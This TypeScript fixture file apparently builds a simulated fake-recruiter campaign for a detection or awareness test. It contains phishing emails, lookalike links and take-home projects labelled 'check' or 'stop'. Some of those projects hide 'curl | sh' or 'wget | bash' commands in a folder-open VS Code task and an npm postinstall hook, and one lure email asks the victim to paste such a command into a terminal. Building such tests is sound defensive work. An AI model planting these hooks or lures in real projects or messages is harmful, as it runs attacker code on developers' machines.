import type { SampleArrival } from "../sample-arrival.ts";
import { writeLink, writeMail, writeProject } from "../write-arrivals.ts";

const story = "recruiter";
const lena = "Lena Roth <lena.roth@meridian-talent.example>";

const offer = (name: string, link: string) =>
  `Hi ${name},\n\nI am Lena, a recruiter for Meridian Labs. We have a remote position for a senior engineer, with a salary of 240k. As part of the technical interview, download our project, run npm install and npm start on your personal laptop, and send me a screenshot as soon as possible, before our call:\n\n${link}\n\nPlease contact me on Telegram: https://t.me/lena_meridian_sample\n\nLena Roth, Meridian Labs`;

const readme =
  "# Meridian dashboard\n\n1. Open this folder in VS Code.\n2. Run `npm install` and `npm start`.\n3. Fix the filter of the table. Please send us a screenshot.\n";

const describePackage = (name: string, scripts: object) =>
  `${JSON.stringify({ name, version: "1.0.0", private: true, scripts, dependencies: { express: "^4.19.2" } }, null, 2)}\n`;

const server =
  'const express = require("express");\nconst app = express();\napp.get("/", (request, response) => response.send("ok"));\napp.listen(3000);\n';

const runOnOpening = (command: string) =>
  JSON.stringify({
    version: "2.0.0",
    tasks: [
      {
        label: "prepare",
        type: "shell",
        command,
        runOptions: { runOn: "folderOpen" },
        presentation: { reveal: "never" },
      },
    ],
  });

/** A recruiter who never was: offers to engineers, tests that run a download, and a "driver" for the camera. */
export const recruiterCampaign: readonly SampleArrival[] = [
  writeMail(
    "interview",
    { day: 0, time: "10:31", story, expects: "check" },
    {
      from: lena,
      to: "mira",
      subject: "Senior engineer at Meridian Labs",
      text: offer("Mira", "https://files.meridian-talent.example/take-home/dashboard.zip"),
    },
  ),
  writeProject({ day: 0, time: "18:20", story, expects: "stop" }, "meridian-dashboard.zip", {
    "README.md": readme,
    "package.json": describePackage("meridian-dashboard", { start: "node server.js" }),
    "server.js": server,
    ".vscode/tasks.json": runOnOpening("curl -s https://cdn.meridian-talent.example/settings/linux | sh"),
  }),
  writeMail(
    "interview",
    { day: 1, time: "10:02", story, expects: "check" },
    {
      from: lena,
      to: "jan",
      subject: "Your profile and Meridian Labs",
      text: offer("Jan", "https://files.meridian-talent.example/take-home/wallet-view.zip"),
    },
  ),
  writeProject({ day: 1, time: "20:44", story, expects: "stop" }, "meridian-wallet-view.zip", {
    "README.md": readme,
    "package.json": describePackage("meridian-wallet-view", {
      start: "node server.js",
      postinstall: "curl -s https://cdn.meridian-talent.example/settings/any | sh",
    }),
    "server.js": server,
  }),
  writeLink(
    "interview",
    { day: 2, time: "09:47", story, expects: "stop" },
    "https://zoom.us.meridian-talent.example/j/camera-driver-update",
  ),
  writeMail(
    "interview",
    { day: 3, time: "11:55", story, expects: "stop" },
    {
      from: lena,
      to: "mira",
      subject: "Re: Senior engineer at Meridian Labs",
      text: "Hi Mira,\n\nyour camera did not work in our call because its driver is too old. Please open Terminal, paste this line and press Enter, then join again within ten minutes:\n\ncurl -s https://cdn.meridian-talent.example/camera/fix.sh | bash\n\nLena Roth, Meridian Labs\nhttps://t.me/lena_meridian_sample",
    },
  ),
  writeMail(
    "hiring",
    { day: 4, time: "09:18", story, expects: "check" },
    {
      from: "Daniel Haas <daniel.haas@meridian-talent.example>",
      to: "jobs",
      subject: "Candidate for your opening",
      text: "Good day,\n\nwe present a candidate for the position of a senior engineer. Before the interview, download his project and run npm install and npm start on your own laptop, as soon as possible:\n\nhttps://files.meridian-talent.example/portfolio/haas.zip\n\nPlease contact his manager on Telegram: https://t.me/lena_meridian_sample\n\nDaniel Haas, Meridian Labs",
    },
  ),
  writeProject({ day: 5, time: "11:49", story, expects: "stop" }, "haas-portfolio.zip", {
    "README.md": readme,
    "package.json": describePackage("haas-portfolio", { start: "node server.js" }),
    "server.js": server,
    ".vscode/tasks.json": runOnOpening("wget -qO- https://cdn.meridian-talent.example/settings/mac | bash"),
  }),
  writeLink(
    "interview",
    { day: 6, time: "10:50", story, expects: "stop" },
    "https://github.com.meridian-talent.example/meridian/dashboard",
  ),
];
